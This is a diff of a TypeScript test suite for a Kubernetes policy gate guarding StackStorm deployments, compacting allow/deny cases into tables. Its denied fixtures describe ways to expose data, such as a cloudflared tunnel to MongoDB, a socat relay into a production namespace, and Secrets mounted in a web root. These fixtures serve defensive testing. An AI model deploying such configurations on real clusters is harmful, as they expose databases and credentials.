-    resources: () => [{ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: meta('monitoring'), spec: { source: { repoURL: 'https://charts.example', chart: 'exporter' }, destination: { namespace: 'monitoring' } } }],
-    expected: deny('ST2-OPS-001', { field: 'kind', message: 'kind=Application' }),
-  },
-  {
-    name: 'a Kyverno generate rule with inline data is judged as the object it makes, and a NetworkPolicy is allowed',
-    rule: 'ST2-OPS-001',
-    environment: 'production',
-    resources: () => [kyvernoGenerate({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', name: 'default-deny', namespace: '{{request.object.metadata.name}}', data: { spec: { podSelector: {}, policyTypes: ['Ingress'] } } })],
-    expected: 'allowed',
-  },
+    ['production', 'an Argo CD Application for another namespace is denied too', () => [{ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: meta('monitoring'), spec: { source: { repoURL: 'https://charts.example', chart: 'exporter' }, destination: { namespace: 'monitoring' } } }], deny('ST2-OPS-001', { field: 'kind', message: 'kind=Application' })],
+    ['production', 'a Kyverno generate rule with inline data is judged as the object it makes, and a NetworkPolicy is allowed', () => [kyvernoGenerate({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', name: 'default-deny', namespace: '{{request.object.metadata.name}}', data: { spec: { podSelector: {}, policyTypes: ['Ingress'] } } })], 'allowed'],
+  ]),
   {
     name: 'a Kyverno generate rule making a NodePort Service is denied as a NodePort, at the rule',
     rule: 'ST2-EXP-002',
@@ -1426,90 +830,30 @@ const cases: RuleCase[] = [
     ],
     expected: deny('ST2-EXP-006', { field: 'spec.forProvider.manifest.spec.type' }),
   },
-  {
-    name: 'a ConfigMap in argocd is denied, even in dev',
-    rule: 'ST2-OPS-015',
-    environment: 'dev',
-    resources: () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'argocd-rbac-cm', namespace: 'argocd' }, data: { 'policy.default': 'role:admin' } }],
-    expected: deny('ST2-OPS-015', { field: 'metadata.namespace', message: 'namespace=argocd' }),
-  },
-  {
-    name: "a ConfigMap in an st2 namespace of the policy's map is allowed",
-    rule: 'ST2-OPS-015',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'notes', namespace: 'st2-prod' }, data: { a: 'b' } }],
-    expected: 'allowed',
-  },
-  {
-    name: 'a CronJob running kubectl scale on st2scheduler is denied',
-    rule: 'ST2-OPS-016',
-    environment: 'production',
-    resources: () => [kubectlCron(['kubectl', 'scale', 'deployment/st2scheduler', '--replicas=0'])],
-    expected: deny('ST2-OPS-016', { field: 'spec.jobTemplate.spec.template.spec.containers.0', message: 'verb=scale' }),
-  },
-  {
-    name: 'a CronJob deleting finished Jobs is allowed',
-    rule: 'ST2-OPS-016',
-    environment: 'production',
-    resources: () => [kubectlCron(['kubectl', 'delete', 'jobs', '-l', 'app=st2-register-content', '--field-selector', 'status.successful=1'])],
-    expected: 'allowed',
-  },
-  {
-    name: 'the timers engine under a new name is denied in production',
-    rule: 'ST2-OPS-017',
-    environment: 'production',
-    resources: () => [workload('st2timersengine', { name: 'st2-timers', annotations: {} })],
-    expected: deny('ST2-OPS-017', { field: 'metadata.name', message: 'canonical=st2timersengine' }),
-  },
-  {
-    name: 'the timers engine under a new name is allowed in staging (it prunes)',
-    rule: 'ST2-OPS-017',
-    environment: 'staging',
-    resources: () => [workload('st2timersengine', { name: 'st2-timers', annotations: {} })],
-    expected: 'allowed',
-  },
-  {
-    name: 'a MutatingWebhookConfiguration is denied',
-    rule: 'ST2-OPS-002',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'tuner' }, webhooks: [] }],
-    expected: deny('ST2-OPS-002', { field: 'kind' }),
-  },
-  {
-    name: 'a Kyverno policy that only validates is allowed',
-    rule: 'ST2-OPS-002',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', metadata: { name: 'labels' }, spec: { validationFailureAction: 'Audit', rules: [{ name: 'team', match: { any: [{ resources: { kinds: ['Pod'] } }] }, validate: { message: 'label', pattern: { metadata: { labels: { team: '?*' } } } } }] } }],
-    expected: 'allowed',
-  },
-  {
-    name: 'a Deployment made an Argo CD hook (Skip) is denied',
-    rule: 'ST2-OPS-003',
-    environment: 'staging',
-    resources: () => [workload('st2notifier', { annotations: { 'argocd.argoproj.io/hook': 'Skip' } })],
-    expected: deny('ST2-OPS-003', { field: 'metadata.annotations.argocd.argoproj.io/hook', message: 'hook=Skip' }),
-  },
-  {
-    name: 'a hook Job is allowed',
-    rule: 'ST2-OPS-003',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'batch/v1', kind: 'Job', metadata: meta('register', { annotations: { 'argocd.argoproj.io/hook': 'PostSync' } }), spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'r', image: 'busybox:1.36.1', command: ['true'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } } } }],
-    expected: 'allowed',
-  },
-  {
-    name: 'an st2web Ingress without TLS is denied',
-    rule: 'ST2-OPS-004',
-    environment: 'production',
-    resources: () => [...haWorkload('st2web'), service('st2web', 'st2web'), { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('st2web'), spec: { rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] } }],
-    expected: deny('ST2-OPS-004', { field: 'spec.rules.0', message: 'host=st2.example.test' }),
-  },
-  {
-    name: 'an st2web Ingress with a wildcard TLS host is allowed',
-    rule: 'ST2-OPS-004',
-    environment: 'production',
-    resources: () => [...haWorkload('st2web'), service('st2web', 'st2web'), { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('st2web'), spec: { tls: [{ hosts: ['*.example.test'], secretName: 'wild' }], rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] } }],
-    expected: 'allowed',
-  },
+  ...rows('ST2-OPS-015', [
+    ['dev', 'a ConfigMap in argocd is denied, even in dev', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'argocd-rbac-cm', namespace: 'argocd' }, data: { 'policy.default': 'role:admin' } }], deny('ST2-OPS-015', { field: 'metadata.namespace', message: 'namespace=argocd' })],
+    ['production', "a ConfigMap in an st2 namespace of the policy's map is allowed", () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'notes', namespace: 'st2-prod' }, data: { a: 'b' } }], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-016', [
+    ['production', 'a CronJob running kubectl scale on st2scheduler is denied', () => [kubectlCron(['kubectl', 'scale', 'deployment/st2scheduler', '--replicas=0'])], deny('ST2-OPS-016', { field: 'spec.jobTemplate.spec.template.spec.containers.0', message: 'verb=scale' })],
+    ['production', 'a CronJob deleting finished Jobs is allowed', () => [kubectlCron(['kubectl', 'delete', 'jobs', '-l', 'app=st2-register-content', '--field-selector', 'status.successful=1'])], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-017', [
+    ['production', 'the timers engine under a new name is denied in production', () => [workload('st2timersengine', { name: 'st2-timers', annotations: {} })], deny('ST2-OPS-017', { field: 'metadata.name', message: 'canonical=st2timersengine' })],
+    ['staging', 'the timers engine under a new name is allowed in staging (it prunes)', () => [workload('st2timersengine', { name: 'st2-timers', annotations: {} })], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-002', [
+    ['production', 'a MutatingWebhookConfiguration is denied', () => [{ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'tuner' }, webhooks: [] }], deny('ST2-OPS-002', { field: 'kind' })],
+    ['production', 'a Kyverno policy that only validates is allowed', () => [{ apiVersion: 'kyverno.io/v1', kind: 'ClusterPolicy', metadata: { name: 'labels' }, spec: { validationFailureAction: 'Audit', rules: [{ name: 'team', match: { any: [{ resources: { kinds: ['Pod'] } }] }, validate: { message: 'label', pattern: { metadata: { labels: { team: '?*' } } } } }] } }], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-003', [
+    ['staging', 'a Deployment made an Argo CD hook (Skip) is denied', () => [workload('st2notifier', { annotations: { 'argocd.argoproj.io/hook': 'Skip' } })], deny('ST2-OPS-003', { field: 'metadata.annotations.argocd.argoproj.io/hook', message: 'hook=Skip' })],
+    ['production', 'a hook Job is allowed', () => [{ apiVersion: 'batch/v1', kind: 'Job', metadata: meta('register', { annotations: { 'argocd.argoproj.io/hook': 'PostSync' } }), spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'r', image: 'busybox:1.36.1', command: ['true'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } } } }], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-004', [
+    ['production', 'an st2web Ingress without TLS is denied', () => [...haWorkload('st2web'), service('st2web', 'st2web'), { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('st2web'), spec: { rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] } }], deny('ST2-OPS-004', { field: 'spec.rules.0', message: 'host=st2.example.test' })],
+    ['production', 'an st2web Ingress with a wildcard TLS host is allowed', () => [...haWorkload('st2web'), service('st2web', 'st2web'), { apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: meta('st2web'), spec: { tls: [{ hosts: ['*.example.test'], secretName: 'wild' }], rules: [{ host: 'st2.example.test', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 80 } } } }] } }] } }], 'allowed'],
+  ]),
   {
     name: 'st2api rolling out with maxUnavailable 100% is denied in production',
     rule: 'ST2-OPS-005',
@@ -1551,104 +895,34 @@ const cases: RuleCase[] = [
     resources: () => [{ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: meta('oncall'), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' }, subjects: [{ kind: 'Group', name: 'sre-oncall' }] }],
     expected: 'allowed',
   },
-  {
-    name: 'st2web proxying /auth to an outside host is denied',
-    rule: 'ST2-OPS-007',
-    environment: 'production',
-    resources: () => [...haWorkload('st2web', 2, { container: { envFrom: [{ configMapRef: { name: 'st2-urls' } }] } }), configMap('st2-urls', { ST2_AUTH_URL: 'https://login.example.net/' })],
-    expected: deny('ST2-OPS-007', { field: 'spec.template.spec.containers.0.envFrom.0', message: 'host=login.example.net' }),
-  },
-  {
-    name: 'st2web proxying /auth to the in-cluster FQDN is allowed',
-    rule: 'ST2-OPS-007',
-    environment: 'production',
-    resources: () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth.st2.svc.cluster.local:9100/' }] } })],
-    expected: 'allowed',
-  },
-  {
-    name: 'a cloudflared tunnel to MongoDB is denied',
-    rule: 'ST2-OPS-008',
-    environment: 'production',
-    resources: () => [...haWorkload('mongodb', 3, { kind: 'StatefulSet' }), service('mongodb', 'mongodb'), workload('db-tunnel', { container: { image: 'cloudflare/cloudflared:2024.12.2', command: ['cloudflared', 'tunnel', '--url', 'tcp://mongodb:27017'] } })],
-    expected: deny('ST2-OPS-008', { message: 'store=mongodb' }),
-  },
-  {
-    name: 'a cloudflared tunnel to st2web is allowed',
-    rule: 'ST2-OPS-008',
-    environment: 'production',
-    resources: () => [...haWorkload('st2web'), service('st2web', 'st2web'), workload('web-tunnel', { container: { image: 'cloudflare/cloudflared:2024.12.2', command: ['cloudflared', 'tunnel', 'run', '--url', 'https://st2web:443'] } })],
-    expected: 'allowed',
-  },
-  {
-    name: 'MongoDB 6.0 is denied',
-    rule: 'ST2-OPS-009',
-    environment: 'production',
-    resources: () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:6.0.13', args: ['--replSet', 'rs0', '--keyFile', '/k'] } }),
-    expected: deny('ST2-OPS-009', { field: 'spec.template.spec.containers.0.image', message: 'version=6.0' }),
-  },
-  {
-    name: 'MongoDB 4.4 is allowed',
-    rule: 'ST2-OPS-009',
-    environment: 'production',
-    resources: () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k'] } }),
-    expected: 'allowed',
-  },
-  {
-    name: 'an httpGet liveness probe on st2api is denied',
-    rule: 'ST2-OPS-010',
-    environment: 'production',
-    resources: () => haWorkload('st2api', 2, { container: { livenessProbe: { httpGet: { path: '/v1/actions', port: 9101 } } } }),
-    expected: deny('ST2-OPS-010', { field: 'spec.template.spec.containers.0.livenessProbe.httpGet', message: 'probe=livenessProbe' }),
-  },
-  {
-    name: 'a tcpSocket probe on st2api is allowed',
-    rule: 'ST2-OPS-010',
-    environment: 'production',
-    resources: () => haWorkload('st2api', 2, { container: { livenessProbe: { tcpSocket: { port: 9101 } } } }),
-    expected: 'allowed',
-  },
-  {
-    name: 'a Secret mounted in st2web\'s web root is denied',
-    rule: 'ST2-OPS-011',
-    environment: 'production',
-    resources: () => haWorkload('st2web', 2, { container: { volumeMounts: [{ name: 'k', mountPath: '/opt/stackstorm/static/webui/keys' }] }, pod: { volumes: [{ name: 'k', secret: { secretName: 'st2-ssh' } }] } }),
-    expected: deny('ST2-OPS-011', { field: 'spec.template.spec.containers.0.volumeMounts.0.mountPath' }),
-  },
-  {
-    name: 'st2web\'s TLS Secret mounted under /etc/ssl is allowed',
-    rule: 'ST2-OPS-011',
-    environment: 'production',
-    resources: () => haWorkload('st2web', 2, { container: { volumeMounts: [{ name: 'tls', mountPath: '/etc/ssl/st2' }] }, pod: { volumes: [{ name: 'tls', secret: { secretName: 'st2web' } }] } }),
-    expected: 'allowed',
-  },
-  {
-    name: 'a dev socat relay to a Service in a production namespace is denied',
-    rule: 'ST2-OPS-012',
-    environment: 'dev',
-    resources: () => [workload('relay', { container: { image: 'alpine/socat:1.8.0.0', args: ['TCP-LISTEN:27017,fork', 'TCP:mongodb.st2-prod.svc.cluster.local:27017'] } })],
-    expected: deny('ST2-OPS-012', { message: 'namespace=st2-prod' }),
-  },
-  {
-    name: 'a dev socat relay inside its own namespace is allowed',
-    rule: 'ST2-OPS-012',
-    environment: 'dev',
-    resources: () => [workload('relay', { container: { image: 'alpine/socat:1.8.0.0', args: ['TCP-LISTEN:8080,fork', 'TCP:backend.st2-dev.svc.cluster.local:8080'] } })],
-    expected: 'allowed',
-  },
-  {
-    name: "st2's message bus at an outside host (an @ in the password) is denied, naming the host only",
-    rule: 'ST2-OPS-013',
-    environment: 'production',
-    resources: () => [configMap('st2-config', { 'st2.user.conf': '[messaging]\nurl = amqp://admin:p@ss@mq.example.net:5672\n' })],
-    expected: deny('ST2-OPS-013', { message: 'host=mq.example.net' }),
-  },
-  {
-    name: "st2's message bus at its in-cluster Service is allowed",
-    rule: 'ST2-OPS-013',
-    environment: 'production',
-    resources: () => [configMap('st2-config', { 'st2.user.conf': `[messaging]\nurl = amqp://admin:p@ss@rabbitmq.${NAMESPACE}.svc.cluster.local:5672\n` })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-OPS-007', [
+    ['production', 'st2web proxying /auth to an outside host is denied', () => [...haWorkload('st2web', 2, { container: { envFrom: [{ configMapRef: { name: 'st2-urls' } }] } }), configMap('st2-urls', { ST2_AUTH_URL: 'https://login.example.net/' })], deny('ST2-OPS-007', { field: 'spec.template.spec.containers.0.envFrom.0', message: 'host=login.example.net' })],
+    ['production', 'st2web proxying /auth to the in-cluster FQDN is allowed', () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth.st2.svc.cluster.local:9100/' }] } })], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-008', [
+    ['production', 'a cloudflared tunnel to MongoDB is denied', () => [...haWorkload('mongodb', 3, { kind: 'StatefulSet' }), service('mongodb', 'mongodb'), workload('db-tunnel', { container: { image: 'cloudflare/cloudflared:2024.12.2', command: ['cloudflared', 'tunnel', '--url', 'tcp://mongodb:27017'] } })], deny('ST2-OPS-008', { message: 'store=mongodb' })],
+    ['production', 'a cloudflared tunnel to st2web is allowed', () => [...haWorkload('st2web'), service('st2web', 'st2web'), workload('web-tunnel', { container: { image: 'cloudflare/cloudflared:2024.12.2', command: ['cloudflared', 'tunnel', 'run', '--url', 'https://st2web:443'] } })], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-009', [
+    ['production', 'MongoDB 6.0 is denied', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:6.0.13', args: ['--replSet', 'rs0', '--keyFile', '/k'] } }), deny('ST2-OPS-009', { field: 'spec.template.spec.containers.0.image', message: 'version=6.0' })],
+    ['production', 'MongoDB 4.4 is allowed', () => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k'] } }), 'allowed'],
+  ]),
+  ...rows('ST2-OPS-010', [
+    ['production', 'an httpGet liveness probe on st2api is denied', () => haWorkload('st2api', 2, { container: { livenessProbe: { httpGet: { path: '/v1/actions', port: 9101 } } } }), deny('ST2-OPS-010', { field: 'spec.template.spec.containers.0.livenessProbe.httpGet', message: 'probe=livenessProbe' })],
+    ['production', 'a tcpSocket probe on st2api is allowed', () => haWorkload('st2api', 2, { container: { livenessProbe: { tcpSocket: { port: 9101 } } } }), 'allowed'],
+  ]),
+  ...rows('ST2-OPS-011', [
+    ['production', 'a Secret mounted in st2web\'s web root is denied', () => haWorkload('st2web', 2, { container: { volumeMounts: [{ name: 'k', mountPath: '/opt/stackstorm/static/webui/keys' }] }, pod: { volumes: [{ name: 'k', secret: { secretName: 'st2-ssh' } }] } }), deny('ST2-OPS-011', { field: 'spec.template.spec.containers.0.volumeMounts.0.mountPath' })],
+    ['production', 'st2web\'s TLS Secret mounted under /etc/ssl is allowed', () => haWorkload('st2web', 2, { container: { volumeMounts: [{ name: 'tls', mountPath: '/etc/ssl/st2' }] }, pod: { volumes: [{ name: 'tls', secret: { secretName: 'st2web' } }] } }), 'allowed'],
+  ]),
+  ...rows('ST2-OPS-012', [
+    ['dev', 'a dev socat relay to a Service in a production namespace is denied', () => [workload('relay', { container: { image: 'alpine/socat:1.8.0.0', args: ['TCP-LISTEN:27017,fork', 'TCP:mongodb.st2-prod.svc.cluster.local:27017'] } })], deny('ST2-OPS-012', { message: 'namespace=st2-prod' })],
+    ['dev', 'a dev socat relay inside its own namespace is allowed', () => [workload('relay', { container: { image: 'alpine/socat:1.8.0.0', args: ['TCP-LISTEN:8080,fork', 'TCP:backend.st2-dev.svc.cluster.local:8080'] } })], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-013', [
+    ['production', "st2's message bus at an outside host (an @ in the password) is denied, naming the host only", () => [configMap('st2-config', { 'st2.user.conf': '[messaging]\nurl = amqp://admin:p@ss@mq.example.net:5672\n' })], deny('ST2-OPS-013', { message: 'host=mq.example.net' })],
+    ['production', "st2's message bus at its in-cluster Service is allowed", () => [configMap('st2-config', { 'st2.user.conf': `[messaging]\nurl = amqp://admin:p@ss@rabbitmq.${NAMESPACE}.svc.cluster.local:5672\n` })], 'allowed'],
+  ]),
   {
     name: "a PushSecret copying a Secret st2 uses to an unnamed store is denied",
     rule: 'ST2-OPS-014',
@@ -1666,78 +940,26 @@ const cases: RuleCase[] = [
     resources: () => [pushSecret('team-webhook')],
     expected: 'allowed',
   },
-  {
-    name: "a dev render's Namespace object for st2-prod is denied",
-    rule: 'ST2-OPS-020',
-    environment: 'dev',
-    resources: () => [namespaceObject('st2-prod')],
-    expected: deny('ST2-OPS-020', { field: 'metadata.name', message: 'namespace=st2-prod' }),
-  },
-  {
-    name: "a dev render's Namespace object for st2-dev is allowed",
-    rule: 'ST2-OPS-020',
-    environment: 'dev',
-    resources: () => [namespaceObject('st2-dev')],
-    expected: 'allowed',
-  },
-  {
-    name: 'a fail-closed webhook over every namespace\'s pods, served from outside the render, is denied',
-    rule: 'ST2-OPS-021',
-    environment: 'production',
-    resources: () => [podWebhook('Fail')],
-    expected: deny('ST2-OPS-021', { field: 'webhooks.0.clientConfig', message: 'why=fails closed on st2\'s pods' }),
-  },
-  {
-    name: 'the same webhook with failurePolicy Ignore is allowed',
-    rule: 'ST2-OPS-021',
-    environment: 'production',
-    resources: () => [podWebhook('Ignore')],
-    expected: 'allowed',
-  },
+  ...rows('ST2-OPS-020', [
+    ['dev', "a dev render's Namespace object for st2-prod is denied", () => [namespaceObject('st2-prod')], deny('ST2-OPS-020', { field: 'metadata.name', message: 'namespace=st2-prod' })],
+    ['dev', "a dev render's Namespace object for st2-dev is allowed", () => [namespaceObject('st2-dev')], 'allowed'],
+  ]),
+  ...rows('ST2-OPS-021', [
+    ['production', 'a fail-closed webhook over every namespace\'s pods, served from outside the render, is denied', () => [podWebhook('Fail')], deny('ST2-OPS-021', { field: 'webhooks.0.clientConfig', message: 'why=fails closed on st2\'s pods' })],
+    ['production', 'the same webhook with failurePolicy Ignore is allowed', () => [podWebhook('Ignore')], 'allowed'],
+  ]),
   // --- ST2-SEC-009: a value the secret search cannot finish ------------------------------------
-  {
-    name: 'a gzip blob decompressing past the search budget is denied, naming the key',
-    rule: 'ST2-SEC-009',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('blob'), binaryData: { 'key.gz': gzipSync(Buffer.alloc(300 * 1024, 0x20)).toString('base64') } }],
-    expected: deny('ST2-SEC-009', { field: 'binaryData.key.gz', message: 'key=key.gz' }),
-  },
-  {
-    name: 'the same blob warns in dev',
-    rule: 'ST2-SEC-009',
-    environment: 'dev',
-    resources: () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('blob'), binaryData: { 'key.gz': gzipSync(Buffer.alloc(300 * 1024, 0x20)).toString('base64') } }],
-    expected: warn('ST2-SEC-009'),
-  },
-  {
-    name: 'a text nested past the last layer the search follows is denied',
-    rule: 'ST2-SEC-009',
-    environment: 'staging',
-    resources: () => [configMap('blob', { key: [1, 2, 3, 4, 5].reduce((t) => b64(t), 'a value nested five times') })],
-    expected: deny('ST2-SEC-009', { message: 'still encoded after 4 nested layers' }),
-  },
-  {
-    name: 'a large plain dashboard (400 KiB of JSON with escapes) is searched and allowed',
-    rule: 'ST2-SEC-009',
-    environment: 'production',
-    resources: () => [configMap('dashboards', { 'st2.json': JSON.stringify({ panels: Array.from({ length: 2000 }, (_, i) => ({ id: i, title: `Panel ${i}`, expr: `sum(rate(st2_action_executions_total{status="failed",panel="${i}"}[5m]))`, description: 'line one\nline two' })) }) })],
-    expected: 'allowed',
-  },
+  ...rows('ST2-SEC-009', [
+    ['production', 'a gzip blob decompressing past the search budget is denied, naming the key', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('blob'), binaryData: { 'key.gz': gzipSync(Buffer.alloc(300 * 1024, 0x20)).toString('base64') } }], deny('ST2-SEC-009', { field: 'binaryData.key.gz', message: 'key=key.gz' })],
+    ['dev', 'the same blob warns in dev', () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('blob'), binaryData: { 'key.gz': gzipSync(Buffer.alloc(300 * 1024, 0x20)).toString('base64') } }], warn('ST2-SEC-009')],
+    ['staging', 'a text nested past the last layer the search follows is denied', () => [configMap('blob', { key: [1, 2, 3, 4, 5].reduce((t) => b64(t), 'a value nested five times') })], deny('ST2-SEC-009', { message: 'still encoded after 4 nested layers' })],
+    ['production', 'a large plain dashboard (400 KiB of JSON with escapes) is searched and allowed', () => [configMap('dashboards', { 'st2.json': JSON.stringify({ panels: Array.from({ length: 2000 }, (_, i) => ({ id: i, title: `Panel ${i}`, expr: `sum(rate(st2_action_executions_total{status="failed",panel="${i}"}[5m]))`, description: 'line one\nline two' })) }) })], 'allowed'],
+  ]),
   // --- ST2-SEC-012: ESO templates computing on literals --------------------------------------------
-  {
-    name: 'an ExternalSecret template applying a function the gate does not evaluate to literals is denied',
-    rule: 'ST2-SEC-012',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-auth', template: { engineVersion: 'v2', data: { password: '{{ "c2VjcmV0" | frobnicate }}' } } }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } }],
-    expected: deny('ST2-SEC-012', { field: 'spec.target.template.data.password', message: 'key=password' }),
-  },
-  {
-    name: 'an ExternalSecret template transforming the store\'s value is allowed',
-    rule: 'ST2-SEC-012',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-auth', template: { engineVersion: 'v2', data: { password: '{{ .pw | trim | frobnicate }}' } } }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } }],
-    expected: 'allowed',
-  },
+  ...rows('ST2-SEC-012', [
+    ['production', 'an ExternalSecret template applying a function the gate does not evaluate to literals is denied', () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-auth', template: { engineVersion: 'v2', data: { password: '{{ "c2VjcmV0" | frobnicate }}' } } }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } }], deny('ST2-SEC-012', { field: 'spec.target.template.data.password', message: 'key=password' })],
+    ['production', 'an ExternalSecret template transforming the store\'s value is allowed', () => [{ apiVersion: 'external-secrets.io/v1', kind: 'ExternalSecret', metadata: meta('st2-auth'), spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'st2-dev-store' }, target: { name: 'st2-auth', template: { engineVersion: 'v2', data: { password: '{{ .pw | trim | frobnicate }}' } } }, data: [{ secretKey: 'pw', remoteRef: { key: 'stackstorm/st2-auth', property: 'password' } }] } }], 'allowed'],
+  ]),
   // --- ST2-SEC-010: st2's Secrets copied out of st2's namespaces ---------------------------------
   {
     name: 'a reflector auto-mirror of an st2 Secret into every namespace is denied',
@@ -1770,76 +992,26 @@ const cases: RuleCase[] = [
     ],
     expected: 'allowed',
   },
-  {
-    name: 'a ConfigMap st2api mounts, made a PreSync hook, is denied',
-    rule: 'ST2-OPS-018',
-    environment: 'staging',
-    resources: () => [workload('st2api'), { apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('st2-rbac-on', { annotations: { 'argocd.argoproj.io/hook': 'PreSync' } }), data: { 'st2.user.conf': '[rbac]\nenable = True\nbackend = default\n' } }],
-    expected: deny('ST2-OPS-018', { field: 'metadata.annotations.argocd.argoproj.io/hook', message: 'hook=PreSync' }),
-  },
-  {
-    name: 'a ConfigMap only a hook uses, made a hook, is allowed',
-    rule: 'ST2-OPS-018',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: meta('smoke-script', { annotations: { 'argocd.argoproj.io/hook': 'PreSync' } }), data: { 'run.sh': 'nc -z st2api 9101' } }],
-    expected: 'allowed',
-  },
-  {
-    name: "st2's Namespace handed to another Argo CD instance is denied",
-    rule: 'ST2-OPS-019',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: NAMESPACE, labels: { 'pod-security.kubernetes.io/enforce': 'baseline', 'argocd.argoproj.io/managed-by': 'team-argocd' } } }],
-    expected: deny('ST2-OPS-019', { field: 'metadata.labels.argocd.argoproj.io/managed-by', message: 'to=team-argocd' }),
-  },
-  {
-    name: 'an HNC HierarchyConfiguration without a parent is allowed',
-    rule: 'ST2-OPS-019',
-    environment: 'production',
-    resources: () => [{ apiVersion: 'hnc.x-k8s.io/v1alpha2', kind: 'HierarchyConfiguration', metadata: meta('hierarchy'), spec: { allowCascadingDeletion: false } }],
-    expected: 'allowed',
-  },
-  {
-    name: "st2's API URL pointing at production's services from another environment is denied",
-    rule: 'ST2-OPS-025',
-    environment: 'dev',
-    resources: () => [workload('st2actionrunner', { container: { env: [{ name: 'ST2_API_URL', value: 'http://st2api.st2-prod.svc:9101/' }] } })],
-    expected: deny('ST2-OPS-025', { field: 'spec.template.spec.containers.0.env.0', message: 'namespace=st2-prod' }),
-  },
-  {
-    name: "st2's API URL naming its own namespace's Service is allowed",
-    rule: 'ST2-OPS-025',
-    environment: 'dev',
-    resources: () => [workload('st2scheduler'), workload('st2actionrunner', { container: { env: [{ name: 'ST2_API_URL', value: `http://st2api.${NAMESPACE}.svc:9101/` }] } })],
-    expected: 'allowed',
-  },
-  {
-    name: 'a hand-written EndpointSlice for st2auth is denied',
-    rule: 'ST2-OPS-026',
-    environment: 'staging',
-    resources: () => [{ apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: meta('st2auth-static', { labels: { 'kubernetes.io/service-name': 'st2auth' } }), addressType: 'IPv4', endpoints: [{ addresses: ['198.51.100.7'] }] }],
-    expected: deny('ST2-OPS-026', { field: 'metadata.labels.kubernetes.io/service-name', message: 'service=st2auth' }),
-  },
-  {
-    name: 'an EndpointSlice for an outside LDAP Service is allowed',
-    rule: 'ST2-OPS-026',
-    environment: 'production',
